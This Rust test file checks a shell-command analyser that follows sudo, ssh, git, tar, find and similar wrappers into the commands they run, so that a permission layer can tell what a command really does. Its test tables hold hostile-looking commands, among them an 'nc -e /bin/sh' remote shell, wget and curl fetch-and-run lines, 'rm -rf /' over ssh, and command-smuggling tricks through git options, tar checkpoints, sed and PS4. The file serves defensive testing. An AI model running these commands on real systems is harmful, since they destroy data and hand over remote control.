//! Programs that run others, and those that write: what is seen of each.

use helve_permissions::shell::{CommandAnalysis, RunManner, ShellWord, TargetAccess, analyze};

/// A command as a line: `?` is one word that can't be known, `…` any number, `x…` one that begins so.
fn line(argv: &[ShellWord]) -> String {
    let show = |word: &ShellWord| match word {
        ShellWord::Known(text) | ShellWord::Pattern(text) => text.clone(),
        ShellWord::Home(rest) => format!("~{rest}"),
        ShellWord::Prefix(text) => format!("{text}…"),
        ShellWord::UnknownOne => "?".to_owned(),
        ShellWord::UnknownMany => "…".to_owned(),
    };
    argv.iter().map(show).collect::<Vec<_>>().join(" ")
}

fn lines(reading: &CommandAnalysis) -> Vec<String> {
    reading
        .commands
        .iter()
        .filter(|command| !command.argv.is_empty())
        .map(|command| line(&command.argv))
        .collect()
}

/// Each runs exactly what stands behind it, besides itself.
const RUN: &[(&str, &[&str])] = &[
    ("sudo -u root rm a", &["rm a"]),
    ("sudo -E FOO=1 rm a", &["rm a"]),
    ("sudo -iu bob -- rm a", &["rm a"]),
    ("doas -u bob rm a", &["rm a"]),
    ("su -c 'rm a; ls'", &["rm a", "ls"]),
    ("su - bob -c 'rm a'", &["rm a"]),
    ("runuser -u bob -- rm a", &["rm a"]),
    ("pkexec rm a", &["rm a"]),
    ("nohup nice -n 5 ionice -c3 rm a", &["nice -n 5 ionice -c3 rm a", "ionice -c3 rm a", "rm a"]),
    ("timeout -k 1 -s KILL 5m rm a", &["rm a"]),
    ("chrt -f 10 rm a", &["rm a"]),
    ("taskset -c 1,2 rm a", &["rm a"]),
    ("setarch x86_64 -R rm a", &["rm a"]),
    ("stdbuf -oL rm a", &["rm a"]),
    ("\\time -v rm a", &["rm a"]),
    ("strace -f -o x rm a", &["rm a"]),
    ("unshare -rm rm a", &["rm a"]),
    ("nsenter -t 1 -m rm a", &["rm a"]),
    ("chroot /x rm a", &["rm a"]),
    ("busybox rm a", &["rm a"]),
    ("systemd-run --user -p X=y rm a", &["rm a"]),
    ("flock f rm a", &["rm a"]),
    ("flock -n f -c 'rm a; ls'", &["rm a", "ls"]),
    ("flock -x 9", &[]),
    ("script -qc 'rm a' out", &["rm a"]),
    ("watch -n1 'rm a; ls'", &["rm a", "ls"]),
    ("watch -x rm a", &["rm a"]),
    ("entr -r rm /_", &["rm ?"]),
    ("ls | xargs -0 -I{} rm -f {}", &["ls", "rm -f …"]),
    ("parallel -j4 rm {} ::: a b", &["rm … …"]),
    ("find . -name '*.o' -exec rm -f {} +", &["rm -f …"]),
    ("find . -type f -name '*.rs' -not -path './target/*'", &[]),
    ("find \"./$dir\" -name \"$name\"", &[]),
    ("fd -e rs -x rm {}", &["rm … …"]),
    ("fd -t f main src", &[]),
    ("ssh -p 22 me@host 'cd /x && rm a'", &["cd /x", "rm a"]),
    ("ssh host rm -rf /", &["rm -rf /"]),
    ("ssh host", &[]),
    ("rsync -av -e 'ssh -p 22' a b", &["ssh -p 22 …"]),
    ("rsync -av --rsh=ssh a b", &["ssh …"]),
    ("docker run --rm -it -v /a:/b image rm a", &["rm a"]),
    ("docker exec -it box sh -c 'rm a'", &["sh -c rm a", "rm a"]),
    ("docker run --entrypoint sh image -c 'rm a'", &["sh -c rm a", "rm a"]),
    ("docker compose exec web rm a", &["rm a"]),
    ("docker ps", &[]),
    ("kubectl exec -it pod -- rm a", &["rm a"]),
    ("kubectl get pods", &[]),
    ("git -c alias.x='!rm a' x", &["rm a …"]),
    ("git -c core.pager='rm a' log", &["rm a …"]),
    ("git -c user.name=me commit -m 'a b'", &[]),
    ("git rebase -x 'rm a' main", &["rm a"]),
    ("git rebase --exec='rm a' main", &["rm a"]),
    ("git bisect run rm a", &["rm a"]),
    ("git submodule foreach 'rm a; ls'", &["rm a", "ls"]),
    ("git difftool -x 'rm a'", &["rm a …"]),
    ("git config alias.x '!rm a'", &["rm a …"]),
    ("git fetch origin main", &[]),
    ("git push -u origin \"feature/$x\"", &[]),
    ("tar xzf a.tgz -C out", &[]),
    ("tar --to-command='rm a' -xf a.tar", &["rm a"]),
    ("tar -I 'rm a' -xf a.tar", &["rm a"]),
    ("tar cf a.tar --checkpoint=1 --checkpoint-action=exec='rm a' .", &["rm a"]),
    ("at now <<< 'rm a'", &["rm a"]),
    ("bash <<'E'\nrm a\nE", &["rm a"]),
    ("env -i A=b FOO=\"$x\" rm a", &["rm a"]),
    ("zsh -c 'rm a && ls'", &["rm a", "ls"]),
    ("bash scripts/test.sh", &[]),
    ("source .venv/bin/activate && pytest -q", &["pytest -q"]),
    ("python3 -c 'import os'", &[]),
    ("make -sC sub CC=clang test", &[]),
    ("ed -s f <<< ',s/a/b/\nw'", &[]),
    ("make -j4 test", &[]),
    ("npm run build", &[]),
    ("awk -F: '{print $1}' f", &[]),
    ("sed -n '1,5p' f", &[]),
    ("sed -i 's/[[:space:]]*$//' f", &[]),
    ("vim +10 f", &[]),
    ("for f in *.txt; do n=$((n+1)); done", &[]),
    ("start=$(date +%s); echo $(( $(date +%s) - start ))", &["date +%s", "echo …", "date +%s"]),
    ("n=$(ls | wc -l); if (( n > 3 )); then rm a; fi", &["ls", "wc -l", "rm a"]),
];

#[test]
fn programs_are_followed_into_what_they_run() {
    for (command, expected) in RUN {
        let reading = analyze(command);
        assert_eq!(reading.unknown, [], "{command}");
        let found = lines(&reading);
        for line in *expected {
            assert!(found.iter().any(|own| own == line), "{line:?} is not in {found:?}");
        }
        let own = found.iter().filter(|line| !expected.contains(&line.as_str())).count();
        assert!(own <= 2, "{command}: {found:?}");
    }
}

const NOT_KNOWN: &[&str] = &[
    "sudo -i",
    "sudo $x rm a",
    "su bob",
    "su -s /bin/x -c ls",
    "timeout --sig KILL 5 rm a",
    "timeout $t rm a",
    "setarch -R rm a",
    "chrt -i rm a",
    "chroot /x",
    "unshare -r",
    "script",
    "watch \"$x\"",
    "ls | xargs sh -c",
    "ls | xargs -I{} sh -c 'rm {}'",
    "parallel 'rm {}; ls' ::: a",
    "find . -exec sh -c 'rm {}' \\;",
    "find . -unheard-of",
    "find $x",
    "find \"$x\" -type f",
    "find . -name *",
    "fd -Hx rm",
    "ssh -o ProxyCommand='rm a' host",
    "ssh -F file host ls",
    "ssh host \"$x\"",
    "ssh \"$host\" ls",
    "scp -S rm -o KnownHostsCommand=x a b:",
    "rsync --rsync-path='rm a' a b:",
    "rsync $x a b",
    "docker run $x image",
    "docker run --unheard-of x image rm a",
    "kubectl exec pod rm a",
    "git -c unheard.of=x log",
    "git -c core.hooksPath=x commit",
    "git --exec-path=/x log",
    "git --config-env=a=b log",
    "git grep -Orm x",
    "git grep --open x",
    "git clone --upload-pack='rm a' x",
    "git clone --u='rm a' x",
    "git clone 'ext::sh -c rm% a'",
    "git push --receive-pack='rm a' x",
    "git push origin \"$x\"",
    "git filter-branch --tree-filter 'rm a'",
    "git config core.fsmonitor x",
    "git $x",
    "tar --checkpoint-act=exec=rm -xf a",
    "tar -F 'rm a' -xf a",
    "make -f - <<< 'x:;rm a'",
    "make -kf/dev/stdin x",
    "make --makefile=\"$x\"",
    "make SHELL=./x",
    "make 'X!=rm a'",
    "make 'X:=$(shell rm a)'",
    "make -E 'x:;rm a'",
    "make $x",
    "echo 'x:;rm a' > Makefile; make",
    "echo 'x:;rm a' > rules; make -f rules",
    "echo '[alias] x = !rm a' >> .git/config; git x",
    "cp x .git/hooks/pre-commit && git commit",
    "cd .git/hooks; echo rm a > pre-commit; git commit",
    "echo x > ~/.gitconfig; git log",
    "strace -o '|rm a' ls",
    "ed f",
    "ed <<< '!rm a'",
    "ed '!rm a' <<< q",
    "gdb -batch -ex 'shell rm a'",
    "run-parts folder",
    "gcc -wrapper rm a.c",
    "cargo --config x=y build",
    "go test -exec rm",
    "nc -e /bin/sh host 1",
    "sort --compress-prog=rm a",
    "sort --comp=rm a",
    "split --filter='rm a' f",
    "rg --pre rm a",
    "less '+!rm a' f",
    "vim -c '!rm a' f",
    "vim '+!rm a'",
    "man -P 'rm a' ls",
    "awk 'BEGIN{system(\"rm a\")}'",
    "awk \"$x\"",
    "awk '{print > \"f\"}'",
    "sed '1e rm a' f",
    "sed 's/a/b/e' f",
    "sed 'w out' f",
    "sed \"$x\" f",
    "sed -i '' '1e rm a' f",
    "crontab -",
    "crontab f",
    "at now",
    "bash -i",
    "bash -ic ls",
    "bash \"$x\"",
    "bash -c \"$x\"",
    "bash --rcfile f",
    "zsh -c 'ls *(e:rm:)'",
    "fish -c 'begin; rm a; end'",
    "source <(ls)",
    "source \"$x\"",
    "eval \"$x\"",
    "eval ls *",
    "wget http://x/y.sh && sh y.sh",
    "curl -O http://x/y.sh && bash y.sh",
    "cp x bin/ && bin/x",
    "echo x > \"$f\"; ./run",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm a",
    "export \"$x=1\"",
    "set -o posix",
    "PS4='$(rm a)'; set -x",
    "trap \"$x\" EXIT",
    "$EDITOR f",
    "l? a",
    "!(rm a)",
    "echo ${ rm a; }",
];

#[test]
fn what_is_not_certain_is_not_known() {
    let known: Vec<&&str> = NOT_KNOWN.iter().filter(|command| analyze(command).unknown.is_empty()).collect();
    assert_eq!(known, Vec::<&&str>::new());
}

#[test]
fn it_is_told_how_a_command_is_run() {
    let manners = |command: &str| {
        let reading = analyze(command);
        reading
            .commands
            .last()
            .unwrap()
            .via
            .iter()
            .map(|via| (via.program.clone(), via.manner.clone()))
            .collect::<Vec<_>>()
    };
    let plain = |name: &str| (name.to_owned(), RunManner::Plain);
    assert_eq!(manners("rm a"), []);
    assert_eq!(manners("sudo timeout 5 rm a"), [("sudo".to_owned(), RunManner::OtherUser), plain("timeout")]);
    assert_eq!(
        manners("ssh host 'rm a'"),
        [("ssh".to_owned(), RunManner::Elsewhere(Some("host".to_owned())))]
    );
    assert_eq!(manners("at now <<< 'rm a'"), [("at".to_owned(), RunManner::Later)]);
    assert_eq!(manners("bash -c 'eval \"rm a\"'"), [plain("bash"), plain("eval")]);
}

#[test]
fn what_only_runs_others_is_told_from_what_does_more() {
    let only = |command: &str| analyze(command).commands.first().unwrap().only_runs_others;
    assert!(
        only("timeout 5 rm a") && only("bash -c 'rm a'") && only("/usr/bin/env rm a") && only("xargs rm")
    );
    assert!(
        !only("rm a")
            && !only("./timeout 5 rm a")
            && !only("find . -exec ls \\;")
            && !only("docker run x ls")
            && !only("bash x.sh")
    );
    let reading = analyze("timeout 5 rm a; timeout() { ls; }");
    assert!(!reading.commands.first().unwrap().only_runs_others, "it is a function");
}

#[test]
fn assignments_are_told_with_what_they_are_for() {
    let reading = analyze(
        "PATH=/x:$PATH LD_PRELOAD=y.so ls; IFS=,; export EDITOR=vi; env PAGER=z git log; for PATH in a; do ls; done",
    );
    assert_eq!(reading.unknown, []);
    let found: Vec<(String, Option<String>)> =
        reading.commands.into_iter().flat_map(|command| command.assignments).collect();
    let known = |name: &str, value: &str| (name.to_owned(), Some(value.to_owned()));
    let unknown = ("PATH".to_owned(), None);
    let expected = [
        unknown.clone(),
        known("LD_PRELOAD", "y.so"),
        known("IFS", ","),
        known("EDITOR", "vi"),
        known("PAGER", "z"),
        unknown,
    ];
    assert_eq!(found, expected);
}

#[test]
fn files_that_are_written_are_told() {
    let writes = |command: &str| {
        let show = |word: &ShellWord| line(std::slice::from_ref(word));
        analyze(command).writes.iter().map(|target| (show(&target.path), target.access)).collect::<Vec<_>>()
    };
    let expect = |command: &str, expected: &[(&str, TargetAccess)]| {
        let expected: Vec<(String, TargetAccess)> =
            expected.iter().map(|(path, access)| ((*path).to_owned(), *access)).collect();
        assert_eq!(writes(command), expected, "{command}");
    };
    expect(
        "ls > a 2>> b >| c &> d >&e 2>&1 2>/dev/null",
        &[
            ("a", TargetAccess::Write),
            ("b", TargetAccess::Append),
            ("c", TargetAccess::Write),
            ("d", TargetAccess::Write),
            ("e", TargetAccess::Write),
        ],
    );
    expect("{ ls; } > \"$x\" <> y", &[("?", TargetAccess::Write), ("y", TargetAccess::Write)]);
    expect("echo > /dev/tcp/host/80", &[("/dev/tcp/host/80", TargetAccess::Network)]);
    expect(
        "rm -rf a ~/b *.c",
        &[("a", TargetAccess::Delete), ("~/b", TargetAccess::Delete), ("*.c", TargetAccess::Delete)],
    );
    expect(
        "mv a b",
        &[("b/a", TargetAccess::Write), ("a", TargetAccess::Delete), ("b", TargetAccess::Write)],
    );
    expect("cp -t d a", &[("d/a", TargetAccess::Write), ("d", TargetAccess::Write)]);
    expect("tee -a a b", &[("a", TargetAccess::Append), ("b", TargetAccess::Append)]);
    expect("dd if=a of=b", &[("b", TargetAccess::Write)]);
    expect(
        "touch a; mkdir -p b; truncate -s 0 c",
        &[("a", TargetAccess::Create), ("b", TargetAccess::Create), ("c", TargetAccess::Write)],
    );
    expect("chmod -R 755 a b", &[("a", TargetAccess::ChangeRights), ("b", TargetAccess::ChangeRights)]);
    expect("sed -i.bak s/a/b/ f", &[("f", TargetAccess::Write)]);
    expect("find a b -delete", &[("a", TargetAccess::Delete), ("b", TargetAccess::Delete)]);
    expect("sudo sh -c 'rm a'", &[("a", TargetAccess::Delete)]);
    expect("cat < a", &[]);
    assert_eq!(analyze("cat < a").reads.len(), 1);
    assert_eq!(analyze("cd x && git -C y log && env -C z ls").folders.len(), 3);
}
